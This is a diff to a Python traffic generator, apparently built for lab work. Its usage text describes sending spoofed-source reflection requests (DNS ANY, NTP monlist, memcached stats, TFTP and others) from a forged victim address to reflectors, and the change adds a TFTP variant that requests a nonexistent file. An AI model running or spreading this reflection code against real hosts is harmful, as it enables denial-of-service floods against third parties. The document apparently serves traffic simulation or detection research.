@@ -27,7 +27,8 @@
         COUNT requests of VECTOR (dns-any, ntp-monlist, snmp-getbulk, ssdp, cldap, mssql, netbios,
         portmap, chargen, tftp, memcached) at RATE a second from VICTIM (forged, raw socket with
         IP_HDRINCL) to the REFLECTORs in turn; PORT the victim's port, 0: a random one each
-        datagram (booters' scapy scripts)
+        datagram (booters' scapy scripts); tftp asks for pxelinux.0, or with TFTP_FILE=none in
+        the environment for a file no server has (lab/tftpreflect.sh)
   amplifiers.py normal DUR SEED KIND ARG...
         resolver SERVERS      a recursive resolver asking many authoritative servers (A, TXT,
                               EDNS 4096), a new port each question, 20-40 a second
@@ -112,7 +113,9 @@ def request(vector, rng):
     if vector == "chargen":
         return b"\x01"
     if vector == "tftp":
-        return b"\x00\x01pxelinux.0\x00octet\x00"
+        # TFTP_FILE=none (lab/tftpreflect.sh): a file no server has, answered by an ERROR
+        name = b"boot/pxe-missing.img" if os.environ.get("TFTP_FILE") == "none" else b"pxelinux.0"
+        return b"\x00\x01" + name + b"\x00octet\x00"
     if vector == "memcached":
         return struct.pack("!HHHH", rng.randrange(65536), 0, 1, 0) + b"stats\r\n"
     sys.exit(f"unknown vector {vector}")
